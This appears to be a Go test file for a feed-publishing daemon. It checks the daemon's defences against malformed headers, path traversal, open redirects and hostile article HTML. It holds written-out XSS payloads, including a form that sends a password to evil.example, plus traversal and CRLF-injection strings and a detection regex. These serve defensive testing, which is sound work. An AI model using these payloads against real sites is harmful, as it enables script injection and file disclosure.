package daemon_test

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/andybalholm/brotli"
	"github.com/mmcdole/gofeed"

	"postrider/internal/posttest/feedrules"
)

// exchange sends a request as it is, over a connection of its own, and reads the
// answer. ended tells that the server closed the connection after it.
func exchange(t *testing.T, base, request string) (r *http.Response, body []byte, ended bool) {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	stop, done := deadline(t), make(chan struct{})
	defer close(done)
	go func() {
		select {
		case <-stop.Done():
			conn.Close()
		case <-done:
		}
	}()
	go io.WriteString(conn, request) // the server may answer, and close, before it has all
	in := bufio.NewReader(conn)
	if r, err = http.ReadResponse(in, &http.Request{Method: request[:strings.IndexByte(request, ' ')]}); err != nil {
		t.Fatalf("%.80q: %v", request, err)
	}
	if body, err = io.ReadAll(r.Body); err != nil {
		t.Fatalf("%.80q: %v", request, err)
	}
	if r.Close {
		_, err := in.ReadByte()
		ended = err != nil
	}
	return r, body, ended
}

func asks(path string, headers ...string) string {
	return "GET " + path + " HTTP/1.1\r\nHost: localhost\r\n" + strings.Join(append(headers, "\r\n"), "\r\n")
}

// decoded is a body without its coding.
func decoded(t *testing.T, coding string, body []byte) string {
	t.Helper()
	var from io.Reader = strings.NewReader(string(body))
	switch coding {
	case "gzip":
		z, err := gzip.NewReader(from)
		if err != nil {
			t.Fatal(err)
		}
		from = z
	case "br":
		from = brotli.NewReader(from)
	case "":
	default:
		t.Errorf("the coding %q was not asked for", coding)
	}
	plain, err := io.ReadAll(from)
	if err != nil {
		t.Fatal(err)
	}
	return string(plain)
}

// TestBadHeaders asks for a feed with headers that no reader sends. None is
// believed, none does harm, and the next reader is served.
func TestBadHeaders(t *testing.T) {
	t.Parallel()
	h := build(t, "sqlite")
	h.publish("tide")
	base := serve(t, h.Daemon)
	whole, feed, _ := exchange(t, base, asks("/rss.xml"))
	tag := whole.Header.Get("ETag")
	if whole.StatusCode != 200 || tag == "" {
		t.Fatal(whole.StatusCode, whole.Header)
	}
	long := strings.Repeat("a", 50<<10)
	for _, headers := range [][]string{
		{"If-None-Match: "}, {"If-None-Match: " + strings.Trim(tag, `"`)}, {`If-None-Match: "` + long}, {`If-None-Match: "` + long + `"`}, {"If-None-Match: " + strings.Repeat(`"a",`, 10_000)},
		{"If-None-Match: W/W/" + tag}, {"If-None-Match: \\" + tag}, {"If-None-Match: 'x'", "If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT"}, {"If-None-Match: \xff\xfe"},
		{"If-Modified-Since: "}, {"If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT"}, {"If-Modified-Since: Fri, 00 Foo 0000 99:99:99 GMT"}, {"If-Modified-Since: -1"}, {"If-Modified-Since: " + long}, {"If-Modified-Since: \xff"},
		{"If-Modified-Since: " + strings.Repeat(",", 50<<10)}, {"If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT"}, {`If-Match: "other"`}, {"Range: bytes=0-0, 5-, -1"}, {"Range: bytes=9999999999999999999-", "If-Range: " + tag}, {"A-IM: feed, vcdiff", `If-None-Match: "x"`},
		{"Accept-Encoding: gzip;q=0, br;q=0, identity;q=0, *;q=0"}, {"Accept-Encoding: gzip;q=1e309"}, {"Accept-Encoding: zstd, compress;q=0.5"}, {"Accept-Encoding: ;q=;;,,q=1"}, {"Accept-Encoding: " + strings.Repeat("gzip;q=0.1,", 4000) + "br"},
		{"Accept-Encoding: *;q=-1"}, {"Accept-Encoding: gzip;q=0.0001;x=\"a,b\""}, {"Accept: application/pdf"}, {"Sec-Fetch-Dest: nowhere"}, {"Connection: close, Upgrade", "Upgrade: websocket"}, {"Expect: 100-continue"}, {"X-Forwarded-For: ../../etc/passwd"},
		{"Content-Length: 5"}, {"Host-Override: x"}, {"Cookie: " + long},
	} {
		if headers[0] == "Content-Length: 5" {
			headers = append(headers, "\r\nhello")
		}
		r, body, _ := exchange(t, base, asks("/rss.xml", headers...))
		name := fmt.Sprintf("%.60q", headers)
		if r.StatusCode != 200 || decoded(t, r.Header.Get("Content-Encoding"), body) != string(feed) || r.Header.Get("Content-Range") != "" || r.Header.Get("IM") != "" {
			t.Errorf("%s: %d with %d bytes, %v", name, r.StatusCode, len(body), r.Header)
		}
	}
	for name, request := range map[string]string{
		"one of 100 kB": asks("/rss.xml", "If-None-Match: "+strings.Repeat("a", 100<<10)), "many of 100 kB": asks("/rss.xml", strings.Split(strings.Repeat("X-A: b\n", 15_000)+"X-Z: z", "\n")...),
		"an address of 100 kB": asks("/" + strings.Repeat("a", 100<<10)), "one that never ends": "GET / HTTP/1.1\r\nHost: localhost\r\nX: " + strings.Repeat("a", 1<<20),
	} {
		r, _, ended := exchange(t, base, request)
		if r.StatusCode != http.StatusRequestHeaderFieldsTooLarge || !ended {
			t.Errorf("%s: %d, ended %v", name, r.StatusCode, ended)
		}
	}
	for name, request := range map[string]string{
		"a control character": asks("/rss.xml", "If-None-Match: a\x00b"), "no name": asks("/rss.xml", ": x"), "a fold": asks("/rss.xml", "X: a", " b", ":"), "no host": "GET /rss.xml HTTP/1.1\r\n\r\n",
		"two lengths": asks("/rss.xml", "Content-Length: 1", "Content-Length: 2"), "no address": "GET \r\n\r\n",
	} {
		if r, _, ended := exchange(t, base, request); r.StatusCode != http.StatusBadRequest || !ended {
			t.Errorf("%s: %d, ended %v", name, r.StatusCode, ended)
		}
	}
	if r, _, _ := exchange(t, base, asks("/rss.xml", "If-None-Match: "+tag)); r.StatusCode != http.StatusNotModified {
		t.Errorf("the next reader: %d", r.StatusCode)
	}
	if h.log.has("panic") || h.log.has("level=ERROR") {
		t.Error("the log tells of a fault of ours")
	}
}

// TestBadPaths asks for addresses that mean something else once they are
// unescaped, resolved or folded. Each is not there, or leads to one that is, at
// once and here; none is a file that is not published.
func TestBadPaths(t *testing.T) {
	t.Parallel()
	h := build(t, "sqlite")
	h.publish("tide")
	home := filepath.Dir(h.file)
	const secret = "the ledger of debts"
	for _, name := range []string{"secret.txt", "pieces/.hidden.md", "pieces/secret.yaml", "pieces/authors.txt~"} {
		write(t, filepath.Join(home, filepath.FromSlash(name)), secret)
	}
	base := serve(t, h.Daemon)
	long := strings.Repeat("a", 8<<10)
	for _, path := range []string{
		"/../secret.txt", "/%2e%2e/secret.txt", "/%2E%2E%2Fsecret.txt", "/..%2fsecret.txt", "/authors/../../secret.txt", "/authors/salma-oduya/../../rss.xml", "/authors/%2e%2e/rss.xml", "/authors/%2e/rss.xml", "/authors/./rss.xml", "/./rss.xml",
		"/..%5csecret.txt", `/..\secret.txt`, `/authors\salma-oduya\rss.xml`, "/authors/salma-oduya%5Crss.xml", "/authors/salma-oduya%2Frss.xml", "/%2frss.xml", "/media/../../secret.txt", "/media/%2e%2e/%2e%2e%2fsecret.txt", "/media/x/..%2f..%2fsecret.txt",
		"//rss.xml", "///authors//salma-oduya///rss.xml", "/authors//rss.xml", "/rss.xml/", "/rss.xml//", "/authors/salma-oduya/rss.xml/x", "//evil.example/rss.xml", `/\evil.example/`, "/%09/evil.example/", "/%5cevil.example", "//evil.example/%2e%2e",
		"/RSS.XML", "/Rss.xml", "/authors/SALMA-ODUYA/rss.xml", "/Authors/salma-oduya/", "/authors/Salma-Oduya/", "/articles/TIDE/", "/rss.xml.", "/rss.xml...", "/authors/salma-oduya./rss.xml", "/authors/salma-oduya./", "/articles/tide./",
		"/rss.xml%00", "/%00/rss.xml", "/authors/%00/", "/authors/salma-oduya%00/rss.xml", "/articles/tide%00/", "/rss.xml%0d%0aX:%20y", "/authors/a%0d%0ab/", "/rss.xml;a=b", "/authors;x/salma-oduya/rss.xml", "/authors/salma-oduya;/", "/rss.xml%3bx", "/;/rss.xml",
		"/rss.xml%20", "/%20/rss.xml", "/rss.xml%ff", "/authors/%ff/rss.xml", "/authors/%c0%ae%c0%ae/rss.xml", "/authors/%u002e/", "/authors/salma%2doduya/rss.xml", "/authors/%E2%80%AEx/rss.xml", "/rss.xml%2e", "/rss%2exml",
		"/archive/0/rss.xml", "/archive/-1/rss.xml", "/archive/1.0/rss.xml", "/archive/99999999999999999999/rss.xml", "/archive/0x1/rss.xml", "/archive/%31/rss.xml", "/archive//rss.xml", "/issues/12/../9/rss.xml", "/issues//9/rss.xml", "/issues/%2e%2e/9/rss.xml",
		"/" + long, "/authors/" + long + "/", "/authors/" + long + "/rss.xml", "/authors/" + strings.Repeat("%F0%9F%90%99", 700) + "/rss.xml", "/articles/" + strings.Repeat("%2e%2e/", 1000), "/" + strings.Repeat("/", 8<<10), "/" + strings.Repeat("a/", 4<<10), "/" + strings.Repeat("%25", 2<<10) + "/",
		"/secret.txt", "/pieces/tide.md", "/config.yaml", "/.hidden.md", "/tide.md", "/articles/.hidden/", "/rss.xml?" + long, "/rss.xml?%00=%zz", "/articles/tide/?a=%0d%0a",
	} {
		for _, method := range []string{"GET ", "HEAD "} {
			at, passed := path, 0
			for ; ; passed++ {
				r, body, _ := exchange(t, base, strings.Replace(asks(at), "GET ", method, 1))
				if strings.Contains(string(body), secret) || strings.Contains(string(body), "newsletters:") || r.Header.Get("X") != "" {
					t.Errorf("%.100s gives away a file:\n%s", path, body)
				}
				if r.StatusCode == http.StatusMovedPermanently {
					to, err := url.Parse(r.Header.Get("Location"))
					if err != nil || to.Host != "" || !strings.HasPrefix(r.Header.Get("Location"), "/") || strings.HasPrefix(r.Header.Get("Location"), "//") || passed > 1 {
						t.Errorf("%s%.100s: redirect %d leads to %.100q", method, path, passed+1, r.Header.Get("Location"))
						break
					}
					at = r.Header.Get("Location")
					continue
				}
				if s := r.StatusCode; s != 200 && s != 400 && s != 404 {
					t.Errorf("%s%.100s: %d at %.100s", method, path, s, at)
				}
				if s := r.StatusCode; s == 200 && passed == 0 && !plainly[path] && !strings.HasPrefix(path, "/rss.xml?") && !strings.HasPrefix(path, "/articles/tide/?") {
					t.Errorf("%s%.100s is an address of its own", method, path)
				}
				break
			}
		}
	}
	if h.log.has("panic") || h.log.has("level=ERROR") {
		t.Error("the log tells of a fault of ours")
	}
}

// plainly are other escapings of an address, which mean the same and may be
// answered (RFC 3986 section 6.2.2.2).
var plainly = map[string]bool{"/authors/salma%2doduya/rss.xml": true, "/rss%2exml": true}

// hostile is what an article may have in it that no reader of feeds is to get.
const hostile = `<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(2)</script>
<form action="https://evil.example/"><input name=password value=x><button>Send</button><textarea>t</textarea><select><option>o</select></form>
<iframe src="https://evil.example/"></iframe><object data="x.swf"><embed src="x.swf"></object><style>body{display:none}</style><link rel=stylesheet href=x.css><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">
<a href="javascript:alert(3)">one</a> <a href=" java&#10;script:alert(4)">two</a> <a href="data:text/html,<script>alert(5)</script>">three</a> <a href="vbscript:x">four</a> <a href="&#x6A;avascript:alert(6)" onclick="alert(7)">five</a>
<img src="javascript:alert(8)" onerror="alert(9)" alt="x"> <img src="data:image/svg+xml,<svg onload=alert(10)>"> <img srcset="javascript:alert(11) 1x, data:x 2x" src="//evil.example/p.png" style="position:fixed">
<svg onload=alert(12)><a xlink:href="javascript:alert(13)"><text>svg</text></a></svg><math><mtext><img src=x onerror=alert(14)></mtext></math><video poster="javascript:x" src="data:video/mp4,x" autoplay></video>
<p style="background:url(javascript:alert(15))" onmouseover=alert(16)>styled</p><!-- a comment --><![CDATA[ data ]]>]]>&gt; &#0; &#x1F; &#xFFFE; &#55296;
<table><tr><td><b><i><u>never closed <p><a name=x><div><ul><li>unclosed`

// TestBadArticles brings hostile and oversized files through the whole line, from
// the folder to the feeds that are served, and has each feed checked by the rules
// of its format.
func TestBadArticles(t *testing.T) {
	t.Parallel()
	h := build(t, "sqlite")
	pieces := filepath.Join(filepath.Dir(h.file), "pieces")
	front := func(title, more string) string {
		return "---\ntitle: " + title + "\nauthors: [Salma Oduya]\nsection: Sea\ndate: 2024-09-05\n" + more + "---\n\n"
	}
	tags := make([]string, 10_000)
	for i := range tags {
		tags[i] = fmt.Sprint("t", i)
	}
	metas := "<meta name=tags content=\"" + strings.Join(tags[:2000], "\">\n<meta name=tags content=\"") + "\">\n"
	files := map[string]string{
		"large.md":    front("Large", "") + strings.Repeat("The staff is read at the slack & the reading is <written> in *the ledger*.\n\n", 5<<20/74),
		"tagged.md":   front("Tagged", "tags: ["+strings.Join(tags, ",")+"]\n") + "Words.\n",
		"metas.html":  "<!doctype html><title>Metas</title><meta name=author content=\"Salma Oduya\"><meta name=date content=2024-09-05>\n" + metas + "<body><p>Words.",
		"hostile.md":  front(`"Hostile </title><script>alert(0)</script>"`, `summary: "<script>alert(0)</script> & ]]>"`+"\n") + hostile + "\n\n[six](javascript:alert(20)) ![x](data:text/html,x) <javascript:alert(21)>\n",
		"page.html":   "<!doctype html><title>Page</title><meta name=author content=\"Salma Oduya\"><meta name=date content=2024-09-05><body>" + hostile,
		"deep.html":   "<!doctype html><title>Deep</title><meta name=author content=\"Salma Oduya\"><meta name=date content=2024-09-05><body>" + strings.Repeat("<div><blockquote><b>", 20_000) + "the bottom",
		"quoted.md":   front("Quoted", "") + strings.Repeat("> ", 20_000) + "the bottom\n\n" + strings.Repeat("[", 20_000) + strings.Repeat("*", 20_000) + "\n",
		"controls.md": front(`"Con\u0001trols \uFFFE"`, "") + "a\x00b\x08c\x1b[31m \xff\xfe \u202e \ufffe \U0001FFFF\n",
	}
	for name, text := range files {
		write(t, filepath.Join(pieces, name), text)
	}
	done, err := h.Read(h.ctx, false, nil)
	if err != nil || done.New != len(files) || done.Held != 0 {
		t.Fatalf("%+v, %v", done, err)
	}
	h.tagsAreFew("tagged.md", 10_000)
	h.tagsAreFew("metas.html", 2000)
	base := serve(t, h.Daemon)
	size := 0
	for _, text := range files {
		size += len(text)
	}
	for _, scope := range []string{"/", "/authors/salma-oduya/", "/sections/sea/"} {
		for file, format := range map[string]string{"rss.xml": "rss", "atom.xml": "atom", "feed.json": "json", "feeds.opml": "opml"} {
			if format == "opml" && scope == "/sections/sea/" {
				continue
			}
			r, body, _ := exchange(t, base, asks(scope+file, "Accept-Encoding: gzip"))
			doc := decoded(t, r.Header.Get("Content-Encoding"), body)
			if r.StatusCode != 200 {
				t.Fatalf("%s%s: %d", scope, file, r.StatusCode)
			}
			for _, fault := range feedrules.Faults(format, []byte(doc)) {
				t.Errorf("%s%s: %.300s", scope, file, fault)
			}
			if format == "opml" {
				continue
			}
			if n := len(doc); n < 5<<20 || n > 3*size {
				t.Errorf("%s%s has %d bytes of articles that have %d", scope, file, n, size)
			}
			parsed, err := gofeed.NewParser().ParseString(doc)
			want := len(files)
			if scope == "/sections/sea/" {
				want = 5
			}
			if err != nil || len(parsed.Items) != want {
				t.Fatalf("%s%s: a reader finds %v, %v; want %d articles", scope, file, parsed, err, want)
			}
			for _, item := range parsed.Items {
				if item.Title == "Large" { // which has no elements of its own, and takes long
					continue
				}
				shown := item.Content
				if format != "json" { // whose summary is plain text
					shown += item.Description
				}
				if found := alerts.FindString(shown); found != "" {
					t.Errorf("%s%s: %q in %s", scope, file, found, item.Title)
				}
			}
		}
	}
}

// alerts is what runs, or asks a reader for something, in a text that people see as HTML.
var alerts = regexp.MustCompile(`(?i)<(script|form|iframe|object|embed|style|svg|input)|\son[a-z]+=|(href|src|srcset|poster|action)\s*=\s*["']?\s*(javascript|vbscript|data):`)

// tagsAreFew wants a file to be warned of its many tags, by name and line, and
// its article to have a hundred.
func (h *house) tagsAreFew(file string, had int) {
	h.t.Helper()
	all, err := h.Listings(h.ctx)
	h.must(err)
	for _, l := range all {
		if filepath.Base(l.File) != file {
			continue
		}
		text, err := json.Marshal(l.Problems)
		h.must(err)
		if len(l.Problems) != 1 || !l.Problems[0].Warning || l.Problems[0].Line == 0 || !strings.Contains(l.Problems[0].String(), fmt.Sprint(had, " tags")) {
			h.t.Errorf("%s: %s", file, text)
		}
		a, err := h.Store.Article(h.ctx, l.Slug)
		h.must(err)
		if len(a.Tags) != 100 || a.Tags[99] != "t99" {
			h.t.Errorf("%s has %d tags", file, len(a.Tags))
		}
		return
	}
	h.t.Errorf("%s is not listed", file)
}
